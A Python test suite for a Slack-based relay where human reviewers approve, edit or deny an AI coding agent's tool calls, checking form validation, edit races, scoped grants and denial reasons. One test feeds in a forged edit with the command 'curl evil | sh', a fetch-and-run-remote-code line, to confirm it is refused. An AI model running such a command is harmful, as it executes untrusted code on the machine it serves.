"""Issue 40: a reviewer edits a tool call in Slack, then allows it; or denies with a reason.

Through a real ``relay serve`` and FakeSlack's modals: the "Edit…" button opens the form
(``views.open`` with the click's trigger), an invalid value comes back under its field,
the allowed decision carries ``updated_input`` and the message shows the edit as a diff; an
edit racing an approval of the original loses to it; a grant made with an edit covers the
edited input only; someone not allowed to answer gets a private notice and no form; a
client that did not say it runs edits is never offered one.
"""

from __future__ import annotations

import asyncio
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from relay.canonical.match import Pattern
from relay.gate.approval import Decision, decide_answer, offer_for
from relay.grants.record import Offer
from relay.hooks.claude_code import claude_code_output
from relay.receipts.jcs import canonical
from relay.receipts.payload import digest
from relay.seam.edits import Edit, edit_custom
from relay.seam.intents import ToolEdit
from relay.seam.questions import AskUserQuestionAnswerItem, Responder
from relay.slack.editing.fields import editable_fields
from relay.testing import FakeModal, FakeSlack, ManualClock
from tests.mcp_env import http_client, result_text
from tests.server_env import SECRET, Relay, relay_server
from tests.test_approvals_api import decided
from tests.test_receipts_serve import chain_of, key_file, payload_of, raw

AGENT = {"id": "claude-code:s1", "name": "Claude Code"}
PROD = "terraform apply -target=module.prod"
STAGING = "terraform apply -target=module.staging"


def body(
    command: str = PROD, *, editable: bool = True, allowed: list[str] | None = None
) -> dict[str, Any]:
    out: dict[str, Any] = {
        "tool": "Bash",
        "input": {"command": command, "description": "apply"},
        "agent": AGENT,
        "editable": editable,
    }
    if allowed is not None:
        out["slack"] = {"allowed_users": allowed}
    return out


def people(slack: FakeSlack) -> None:
    slack.add_user("U0ALICE", name="alice")
    slack.add_user("U0BOB", name="bob")
    slack.add_user("U0EVE", name="eve")


async def deploy_form(
    slack: FakeSlack, relay: Relay, inputs: dict[str, Any], schema: dict[str, Any]
) -> tuple[dict[str, Any], FakeModal]:
    """An editable ``deploy`` approval posted with ``schema``, and bob's edit form for it."""
    request = {
        "tool": "deploy",
        "input": inputs,
        "agent": AGENT,
        "editable": True,
        "input_schema": schema,
    }
    status, created = await relay.request("POST", "/v1/approvals", json=request)
    assert status == 201, created
    message = await slack.wait_for_message(timeout=15)
    await slack.click(message, "Edit…", user="U0BOB")
    return created, await slack.wait_for_modal(user="U0BOB", timeout=10)


async def test_an_edited_call_is_what_is_allowed_and_the_message_shows_the_edit() -> None:
    async with FakeSlack(signing_secret=SECRET) as slack, relay_server(slack) as relay:
        people(slack)
        status, created = await relay.request("POST", "/v1/approvals", json=body())
        assert status == 201, created
        message = await slack.wait_for_message(timeout=15)
        await slack.click(message, "Edit…", user="U0ALICE")
        modal = await slack.wait_for_modal(user="U0ALICE", timeout=10)
        # A Bash call: one multiline code field, the command as shown.
        assert modal.labels() == ["command", "Then"]
        assert modal.value("command")["value"] == PROD
        modal.fill("command", STAGING)
        result = await slack.submit_view(modal)
        assert result.outcome == "closed", result
        decision = (await decided(relay, created["id"]))["decision"]
        assert decision["behavior"] == "allow"
        assert decision["updated_input"] == {"command": STAGING, "description": "apply"}
        assert decision["edited_by"] == "U0ALICE"
        await slack.wait_until(lambda: "Edited by" in str(message.blocks), timeout=10)
        shown = str(message.blocks)
        assert "Allowed by <@U0ALICE>" in shown
        assert '-  "command": "terraform apply -target=module.prod",' in shown
        assert '+  "command": "terraform apply -target=module.staging",' in shown


async def test_an_invalid_value_is_refused_in_the_form_and_nothing_is_recorded() -> None:
    schema = {
        "type": "object",
        "properties": {
            "replicas": {"type": "integer"},
            "env": {"type": "string", "enum": ["staging", "prod"]},
            "force": {"type": "boolean"},
            "labels": {"type": "object"},
        },
    }
    async with FakeSlack(signing_secret=SECRET) as slack, relay_server(slack) as relay:
        people(slack)
        inputs = {"replicas": 3, "env": "prod", "force": False, "labels": {"a": "b"}}
        created, modal = await deploy_form(slack, relay, inputs, schema)
        assert modal.field("env").kind == "static_select"
        assert modal.field("force").kind == "checkboxes"
        modal.fill("replicas", "three")
        modal.fill("labels", "{not json")
        result = await slack.submit_view(modal)
        assert result.outcome == "errors", result
        assert set(result.errors) == {modal.field(n).block_id for n in ("replicas", "labels")}
        assert modal.is_open
        _status, pending = await relay.request("GET", f"/v1/approvals/{created['id']}")
        assert pending["status"] == "pending"
        modal.fill("replicas", "5")
        modal.fill("labels", '{"a": "c"}')
        modal.choose("env", '"staging"')
        modal.tick("force", ["true"])
        assert (await slack.submit_view(modal)).outcome == "closed"
        decision = (await decided(relay, created["id"]))["decision"]
        assert decision["updated_input"] == {
            "replicas": 5,
            "env": "staging",
            "force": True,
            "labels": {"a": "c"},
        }


async def test_an_edit_racing_an_approval_of_the_original_loses_to_it() -> None:
    async with FakeSlack(signing_secret=SECRET) as slack, relay_server(slack) as relay:
        people(slack)
        _status, created = await relay.request("POST", "/v1/approvals", json=body())
        message = await slack.wait_for_message(timeout=15)
        await slack.click(message, "Edit…", user="U0ALICE")
        modal = await slack.wait_for_modal(user="U0ALICE", timeout=10)
        modal.fill("command", STAGING)
        await slack.click(message, "Allow once", user="U0BOB")  # the original, first
        decision = (await decided(relay, created["id"]))["decision"]
        assert decision["behavior"] == "allow"
        assert "updated_input" not in decision
        result = await slack.submit_view(modal)
        assert result.outcome == "errors"
        assert "bob already decided" in next(iter(result.errors.values()))
        again = (await decided(relay, created["id"]))["decision"]
        assert "updated_input" not in again
        assert again["by"]["id"] == "U0BOB"


async def test_a_grant_made_with_an_edit_covers_only_the_edited_input() -> None:
    async with FakeSlack(signing_secret=SECRET) as slack, relay_server(slack) as relay:
        people(slack)
        _status, created = await relay.request("POST", "/v1/approvals", json=body())
        message = await slack.wait_for_message(timeout=15)
        await slack.click(message, "Edit…", user="U0ALICE")
        modal = await slack.wait_for_modal(user="U0ALICE", timeout=10)
        modal.fill("command", STAGING)
        modal.choose("Then", "Allow for this session")
        assert (await slack.submit_view(modal)).outcome == "closed"
        decision = (await decided(relay, created["id"]))["decision"]
        assert decision["outcome"] == "granted"
        assert decision["grant"]["pattern"]["digest"]
        # The edited call is covered; the original one, which nobody allowed, is asked again.
        status, again = await relay.request("POST", "/v1/approvals", json=body(STAGING))
        assert (status, again["decision"]["outcome"]) == (200, "allowed")
        status, asked = await relay.request("POST", "/v1/approvals", json=body(PROD))
        assert status == 201
        assert asked["decision"] is None


async def test_someone_not_allowed_gets_no_form_and_nothing_changes() -> None:
    async with FakeSlack(signing_secret=SECRET) as slack, relay_server(slack) as relay:
        people(slack)
        _status, created = await relay.request(
            "POST", "/v1/approvals", json=body(allowed=["U0ALICE"])
        )
        message = await slack.wait_for_message(timeout=15)
        before = str(message.blocks)
        await slack.click(message, "Edit…", user="U0EVE")
        notice = await slack.wait_for_ephemeral(user="U0EVE", timeout=10)
        assert "not allowed" in str(notice.args)
        assert slack.modals == []
        _status, pending = await relay.request("GET", f"/v1/approvals/{created['id']}")
        assert pending["status"] == "pending"
        assert str(message.blocks) == before


async def test_an_expired_trigger_opens_nothing_and_says_so() -> None:
    clock = ManualClock()
    async with (
        FakeSlack(signing_secret=SECRET, clock=clock) as slack,
        relay_server(slack) as relay,
    ):
        people(slack)
        _status, created = await relay.request("POST", "/v1/approvals", json=body())
        message = await slack.wait_for_message(timeout=15)
        # Every trigger the fake hands out is past Slack's 3 s by the time it is used.
        original = slack._workspace.modals.issue_trigger

        def stale(user: str, *, view_id: str | None = None) -> str:
            trigger = original(user, view_id=view_id)
            clock.advance(4.0)
            return trigger

        slack._workspace.modals.issue_trigger = stale  # type: ignore[method-assign]
        await slack.click(message, "Edit…", user="U0ALICE")
        notice = await slack.wait_for_ephemeral(user="U0ALICE", timeout=10)
        assert "expired_trigger_id" in str(notice.args)
        assert slack.modals == []
        _status, pending = await relay.request("GET", f"/v1/approvals/{created['id']}")
        assert pending["status"] == "pending"


async def test_no_edit_is_offered_to_a_client_that_does_not_run_one() -> None:
    async with FakeSlack(signing_secret=SECRET) as slack, relay_server(slack) as relay:
        people(slack)
        _status, created = await relay.request("POST", "/v1/approvals", json=body(editable=False))
        message = await slack.wait_for_message(timeout=15)
        assert "Edit…" not in str(message.blocks)
        # A typed "edit" is refused: an edit is made in its form, where the message shows it.
        forged = json.dumps(
            {
                "relay": "edit",
                "choice": "Allow once",
                "version": 2,
                "input": {"command": "curl evil | sh"},
                "edited_by": "U0BOB",
            }
        )
        await slack.type(message, forged, user="U0BOB")
        await slack.press_enter(message, user="U0BOB")
        notice = await slack.wait_for_ephemeral(user="U0BOB", timeout=10)
        assert "Edit…" in str(notice.args)
        _status, pending = await relay.request("GET", f"/v1/approvals/{created['id']}")
        assert pending["status"] == "pending"


async def test_deny_with_a_reason_reaches_the_agent_verbatim() -> None:
    async with FakeSlack(signing_secret=SECRET) as slack, relay_server(slack) as relay:
        people(slack)
        _status, created = await relay.request("POST", "/v1/approvals", json=body())
        message = await slack.wait_for_message(timeout=15)
        reason = "use -target=module.staging; prod is frozen until Monday"
        await slack.type(message, reason, user="U0BOB")
        await slack.click(message, "Deny", user="U0BOB")  # typed, then Deny: denies with it
        decision = (await decided(relay, created["id"]))["decision"]
        assert decision["behavior"] == "deny"
        assert decision["message"].endswith(f": {reason}")
        await slack.wait_until(lambda: "Denied by" in str(message.blocks), timeout=10)
        assert "Denied by <@U0BOB>" in str(message.blocks)
        assert reason in str(message.blocks)


async def test_approve_tool_use_returns_the_edit_and_the_receipt_binds_it(tmp_path: Path) -> None:
    async with (
        FakeSlack(signing_secret=SECRET) as slack,
        relay_server(slack, RELAY_RECEIPT_KEY_FILE=key_file(tmp_path)) as relay,
        http_client(relay, mode="legacy") as client,
    ):
        people(slack)
        use = {"tool_name": "Bash", "input": {"command": PROD}}
        call = asyncio.create_task(client.call_tool("approve_tool_use", use))
        message = await slack.wait_for_message(timeout=15)
        await slack.click(message, "Edit…", user="U0ALICE")
        modal = await slack.wait_for_modal(user="U0ALICE", timeout=10)
        modal.fill("command", STAGING)
        assert (await slack.submit_view(modal)).outcome == "closed"
        allowed = json.loads(result_text(await asyncio.wait_for(call, 15)))
        assert allowed == {"behavior": "allow", "updatedInput": {"command": STAGING}}
        (item,) = await chain_of(relay, 1)
        ask_id = item["ask"]
        status, _, token = await raw(relay, f"/v1/asks/{ask_id}/receipt")
        assert status == 200
        receipt = payload_of(token)
        assert receipt["edited_sha256"] == digest(canonical({"command": STAGING}))
        (decision,) = receipt["outcome"]["decisions"]
        assert decision["by"]["user"] == "U0ALICE"


def edited_answer(editable: bool) -> tuple[Any, Any]:
    edit = Edit({"command": STAGING}, "Allow for this session", 2, "U0ALICE")
    item = AskUserQuestionAnswerItem(
        id="approval",
        custom=edit_custom(edit),
        answered_by=Responder(id="U0ALICE", name="alice"),
        answered_at=datetime(2026, 1, 1, tzinfo=UTC),
    )
    return decide_answer(item, session=True, minutes=30, editable=editable)


def test_each_harness_field_carries_the_edit_or_the_reason() -> None:
    decision, kind = edited_answer(editable=True)
    assert (decision.behavior, kind) == ("allow", "session")
    assert Decision.from_json(decision.to_json()) == decision
    pre = claude_code_output("PreToolUse", decision)
    assert pre is not None
    assert pre["hookSpecificOutput"]["updatedInput"] == {"command": STAGING}
    asked = claude_code_output("PermissionRequest", decision)
    assert asked is not None
    assert asked["hookSpecificOutput"]["decision"] == {
        "behavior": "allow",
        "updatedInput": {"command": STAGING},
    }
    # Where no edit was offered, an answer carrying one denies (it would run an unseen call).
    refused, kind = edited_answer(editable=False)
    assert (refused.behavior, kind, refused.updated_input) == ("deny", None, None)
    # A reason, verbatim, in each Claude Code field.
    reason = "not on a Friday: use the staging target"
    typed = AskUserQuestionAnswerItem(
        id="approval", custom=reason, answered_by=Responder(id="U0BOB", name="bob")
    )
    denied, _ = decide_answer(typed, session=True, minutes=30, editable=True)
    pre = claude_code_output("PreToolUse", denied)
    asked = claude_code_output("PermissionRequest", denied)
    assert pre is not None
    assert asked is not None
    assert pre["hookSpecificOutput"]["permissionDecisionReason"].endswith(f": {reason}")
    assert asked["hookSpecificOutput"]["decision"]["message"].endswith(f": {reason}")
    assert "updatedInput" not in pre["hookSpecificOutput"]
    # An offer after an edit covers exactly the edited input.
    offer = Offer(owner="o", agent="a", pattern=Pattern(tools=("Bash",), commands=("terraform *",)))
    assert offer_for(offer, "Bash", decision).pattern == Pattern.exact("Bash", {"command": STAGING})


def test_the_form_offers_what_a_reviewer_fixes_in_the_common_tools() -> None:
    def names(tool: str, value: dict[str, Any], schema: Any = None) -> list[str]:
        return [f.name for f in editable_fields(ToolEdit(tool, value, schema))]

    assert names("Bash", {"command": "ls", "description": "list"}) == ["command"]
    assert names("Edit", {"file_path": "a", "old_string": "x", "new_string": "y"}) == ["new_string"]
    assert names("Write", {"file_path": "a", "content": "z"}) == ["content"]
    assert names("mcp__x", {"n": 1}, {"properties": {"n": {}, "m": {}}}) == ["n", "m"]
    many = {f"k{i}": i for i in range(50)}
    (whole,) = editable_fields(ToolEdit("big", many))  # the whole input as one JSON field
    assert (whole.whole, whole.kind) == (True, "json")


async def test_an_input_too_long_for_a_form_is_never_shown_cut() -> None:
    # Issue 52.4: Edit… only where it can work. The one field a Write offers is too long
    # for a Slack text field, so no Edit… is offered and the message says why in one line.
    async with FakeSlack(signing_secret=SECRET) as slack, relay_server(slack) as relay:
        people(slack)
        request = {
            "tool": "Write",
            "input": {"file_path": "/srv/app/big.txt", "content": "x" * 3001},
            "agent": AGENT,
            "editable": True,
        }
        _status, created = await relay.request("POST", "/v1/approvals", json=request)
        message = await slack.wait_for_message(timeout=15)
        assert "Edit…" not in slack.buttons_seen(message)
        assert (
            "Edit… is not offered: `content` is 3,001 characters long, more than the 3,000 a"
            " Slack form field holds." in str(message.blocks)
        )
        await slack.click(message, "Allow once", user="U0ALICE")
        decision = (await decided(relay, created["id"]))["decision"]
        assert (decision["behavior"], decision.get("updated_input")) == ("allow", None)


async def test_over_socket_mode_the_form_answers_in_the_ack() -> None:
    # The relay's answer to view_submission travels as the ack's payload; a field error keeps
    # the form open with the message under the field, an accepted edit closes it.
    schema = {"type": "object", "properties": {"replicas": {"type": "integer"}}}
    async with (
        FakeSlack(signing_secret=SECRET) as slack,
        relay_server(slack, socket_mode=True) as relay,
    ):
        people(slack)
        await slack.wait_for_socket(timeout=15)
        created, modal = await deploy_form(slack, relay, {"replicas": 3}, schema)
        modal.fill("replicas", "three")
        refused = await slack.submit_view(modal)
        replicas = modal.field("replicas").block_id
        assert (refused.outcome, set(refused.errors)) == ("errors", {replicas}), refused
        assert json.loads(refused.body)["response_action"] == "errors"
        modal.fill("replicas", "5")
        assert (await slack.submit_view(modal)).outcome == "closed"
        decision = (await decided(relay, created["id"]))["decision"]
        assert decision["updated_input"] == {"replicas": 5}


async def test_an_edit_python_holds_equal_to_the_original_is_still_the_edit() -> None:
    # 1 == True == 1.0 in Python: an edit from 1 to true was once taken as no edit, and the
    # original allowed. Edits are compared as JSON.
    schema = {"type": "object", "properties": {"labels": {"type": "object"}}}
    async with FakeSlack(signing_secret=SECRET) as slack, relay_server(slack) as relay:
        people(slack)
        created, modal = await deploy_form(slack, relay, {"labels": {"canary": 1}}, schema)
        modal.fill("labels", '{"canary": true}')
        assert (await slack.submit_view(modal)).outcome == "closed"
        decision = (await decided(relay, created["id"]))["decision"]
        assert decision["updated_input"] == {"labels": {"canary": True}}
        assert decision["updated_input"]["labels"]["canary"] is True
